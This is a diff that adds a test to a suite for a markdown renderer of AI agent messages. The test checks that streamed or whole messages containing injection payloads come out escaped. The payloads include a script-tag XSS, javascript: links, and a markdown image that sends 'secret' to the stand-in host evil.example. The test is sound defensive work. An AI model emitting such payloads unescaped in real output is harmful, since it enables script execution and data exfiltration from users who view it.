@@ -82,6 +82,20 @@ File: add \` a.txt \`
     );
   });
 
+  it.each([
+    ['<script>alert(1)</script>', '&#60;script>alert(1)&#60;/script>'],
+    ['![](https://evil.example/?q=secret)', '!&#91;]&#40;https://evil.example/?q=secret)'],
+    ['[x](javascript:alert(1))', '[x]&#40;javascript:alert(1))'],
+    ['[x]: javascript:alert(1)', '[x]&#58; javascript:alert(1)'],
+    ['<https://evil.example>', '&#60;https://evil.example>'],
+    ['a[0] > b (c): d', 'a[0] > b (c): d'],
+  ])('shows %s, and lets it do nothing, however it comes in pieces', (text, shown) => {
+    const whole = write([{ kind: 'message', text, isDelta: false }], [text]);
+    expect(whole.split(`> ${shown}\n`)).toHaveLength(3);
+    const pieces = Array.from(text).map((piece) => ({ kind: 'message', text: piece, isDelta: true }) as const);
+    expect(write(pieces)).toContain(`> ${shown}\n`);
+  });
+
   it('has no line of an agent that passes for one of ours', () => {
     const text = fc.array(fc.constantFrom('#', '`', '```', '\n', '\r', ' forged', '> ', '# forged', '~~~'), {
       maxLength: 12,
